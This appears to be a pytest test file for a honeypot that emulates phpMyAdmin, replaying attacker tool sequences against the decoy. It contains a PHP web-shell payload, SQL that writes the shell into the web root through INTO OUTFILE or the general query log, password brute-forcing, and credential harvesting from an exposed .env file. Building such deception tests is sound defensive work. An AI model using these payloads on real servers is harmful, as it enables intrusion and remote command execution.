@@ -1,0 +1,141 @@
+"""phpMyAdmin: conversations with it, and the sequences of public tools up to what they came for."""
+
+from __future__ import annotations
+
+import re
+from urllib.parse import urlencode
+
+import pytest
+
+from mirage.base.events import LoginAttempted
+from mirage.gateway.http.sites.phpmyadmin.server import statements
+from mirage.gateway.http.sites.phpmyadmin.site import WEAK
+from mirage.world import accounts
+from mirage.world.host import Host
+from tests.unit.gateway.http.sites.conftest import Answer, Machine, begin
+
+BASE = "/phpmyadmin/index.php"
+PAYLOAD = '<?php system($_GET["c"]); ?>'
+
+
+@pytest.fixture
+async def admin(host: Host) -> Machine:
+    return begin(host, "phpmyadmin")
+
+
+def _hidden(answer: Answer, name: str) -> str:
+    found = re.search(rf'name="{name}" value="([^"]*)"', answer.body.decode())
+    assert found is not None
+    return found[1]
+
+
+async def _try(admin: Machine, user: str, password: str) -> Answer:
+    """As auxiliary/scanner/http/phpmyadmin_login does it: the form first, for its session and token."""
+    door = await admin.ask("GET", "/phpmyadmin/")
+    values = {
+        "set_session": _hidden(door, "set_session"),
+        "token": _hidden(door, "token"),
+        "pma_username": user,
+        "pma_password": password,
+    }
+    return await admin.ask("POST", BASE, urlencode({**values, "server": "1"}).encode())
+
+
+async def _entered(admin: Machine) -> str:
+    """Past the door; the token of the session."""
+    for word in WEAK:
+        if (await _try(admin, "root", word)).status == 302:
+            return _hidden(await admin.ask("GET", f"{BASE}?route=/"), "token")
+    raise AssertionError
+
+
+async def _sql(admin: Machine, token: str, query: str, **more: str) -> Answer:
+    body = urlencode({"sql_query": query, "token": token, "db": "", "table": "", "show_query": "1", **more}).encode()
+    return await admin.ask("POST", f"{BASE}?route=/import", body)
+
+
+def _cells(answer: Answer) -> list[str]:
+    return re.findall(r"<td data-decimals[^>]*>([^<]*)</td>", answer.body.decode())
+
+
+async def test_metasploit_s_phpmyadmin_login_finds_the_poor_password(admin: Machine) -> None:
+    """auxiliary/scanner/http/phpmyadmin_login: 200 with the form again for a wrong one, a redirect and cookies for the right one."""
+    wrong = await _try(admin, "root", "surely-not")
+    assert (wrong.status, b"no root here" in wrong.body) == (200, True)
+    assert "pmaAuth-1" not in admin.cookies
+    await _entered(admin)
+    assert {"phpMyAdmin", "pmaUser-1", "pmaAuth-1"} <= admin.cookies.keys()
+    tried = [event for event in admin.events if isinstance(event, LoginAttempted)]
+    assert (tried[0].accepted, tried[-1].accepted) == (False, True)
+
+
+async def test_a_shell_is_written_by_into_outfile_and_runs(admin: Machine) -> None:
+    """The second stage of phpMyAdmin getshell tools: datadir, then SELECT ... INTO OUTFILE into the document root, then ask for it."""
+    token = await _entered(admin)
+    assert _cells(await _sql(admin, token, "SELECT @@datadir, @@secure_file_priv")) == ["/var/lib/mysql/", ""]
+    written = await _sql(admin, token, f"SELECT '{PAYLOAD}' INTO OUTFILE '/var/www/html/x.php'")
+    assert b"1 row affected." in written.body
+    shell = await admin.ask("GET", "/x.php?c=id")
+    assert (shell.status, shell.body) == (200, b"uid=33(www-data) gid=33(www-data) groups=33(www-data)\n")
+    again = await _sql(admin, token, f"SELECT '{PAYLOAD}' INTO OUTFILE '/var/www/html/x.php'")
+    assert b"#1086 - File &#039;/var/www/html/x.php&#039; already exists" in again.body
+    denied = await _sql(admin, token, "SELECT 1 INTO OUTFILE '/etc/cron.d/x'")
+    assert b"Can&#039;t create/write to file &#039;/etc/cron.d/x&#039; (Errcode: 13 &quot;Permission denied&quot;)" in denied.body
+
+
+async def test_a_shell_is_written_by_the_general_log_and_runs(admin: Machine) -> None:
+    """The other way of the same tools, where INTO OUTFILE is refused: the log of queries is moved into the document root."""
+    token = await _entered(admin)
+    await _sql(admin, token, "SET GLOBAL general_log_file='/var/www/html/log.php'; SET GLOBAL general_log='ON'")
+    await _sql(admin, token, f"SELECT '{PAYLOAD}'")
+    await _sql(admin, token, "SET GLOBAL general_log='OFF'")
+    assert b"www-data\n" in (await admin.ask("GET", "/log.php?c=whoami")).body
+
+
+async def test_phpmyadmin_lfi_rce_s_database_and_table_are_made_and_dropped(admin: Machine) -> None:
+    """exploit/multi/http/phpmyadmin_lfi_rce as far as a 5.2 lets it: CREATE DATABASE, CREATE TABLE, SHOW VARIABLES, DROP DATABASE."""
+    token = await _entered(admin)
+    for query in ("CREATE DATABASE abcde;", "CREATE TABLE abcde.fghij(klmno varchar(4096) DEFAULT '<?php ?>');"):
+        assert (await _sql(admin, token, query)).status == 200
+    assert "abcde" in _cells(await _sql(admin, token, "SHOW DATABASES"))
+    assert _cells(await _sql(admin, token, "SHOW VARIABLES LIKE 'datadir'")) == ["datadir", "/var/lib/mysql/"]
+    await _sql(admin, token, "DROP DATABASE abcde")
+    assert "abcde" not in _cells(await _sql(admin, token, "SHOW DATABASES"))
+
+
+async def test_the_company_s_rows_are_read_changed_and_read_again(admin: Machine) -> None:
+    token = await _entered(admin)
+    name = admin.host.story.company.project.database
+    users = _cells(await _sql(admin, token, f"SELECT name FROM {name}.users"))
+    assert "admin" in users
+    await _sql(admin, token, f"UPDATE {name}.users SET password='mine' WHERE name='admin'")
+    assert _cells(await _sql(admin, token, f"SELECT password FROM {name}.users WHERE name='admin'")) == ["mine"]
+
+
+async def test_a_message_for_the_page_s_script_is_json(admin: Machine) -> None:
+    token = await _entered(admin)
+    answer = await _sql(admin, token, "SELECT 0x3c62 AS x, NULL", ajax_request="true")
+    assert answer.json["success"] is True
+    assert "&lt;b</td>" in answer.json["message"]
+    fault = await _sql(admin, token, "SELECT a FROM nothing.b", ajax_request="true")
+    assert fault.json == {"success": False, "error": "<code>#1146 - Table &#039;nothing.b&#039; doesn&#039;t exist</code>"}
+
+
+async def test_without_the_session_s_token_nothing_is_asked(admin: Machine) -> None:
+    await _entered(admin)
+    assert not _cells(await _sql(admin, "0" * 32, "SELECT 1"))
+
+
+async def test_a_cookie_of_somebody_s_own_making_opens_nothing(admin: Machine) -> None:
+    admin.cookies["pmaAuth-1"] = "726f6f747c31" + "0" * 64
+    assert b"pma_username" in (await admin.ask("GET", f"{BASE}?route=/")).body
+
+
+async def test_the_forgotten_note_opens_ssh(admin: Machine) -> None:
+    note = (await admin.ask("GET", "/export/.env")).body.decode()
+    user, password = re.findall(r"SFTP_(?:USER|PASSWORD)=(\S+)", note)
+    assert accounts.verify(admin.host.view(admin.layer), user, password.encode()) is True
+
+
+def test_statements_are_cut_at_semicolons_outside_of_quotes() -> None:
+    assert list(statements('SELECT \';\'; SELECT "a\\";" ;; SELECT `;`')) == ["SELECT ';'", 'SELECT "a\\";"', "SELECT `;`"]
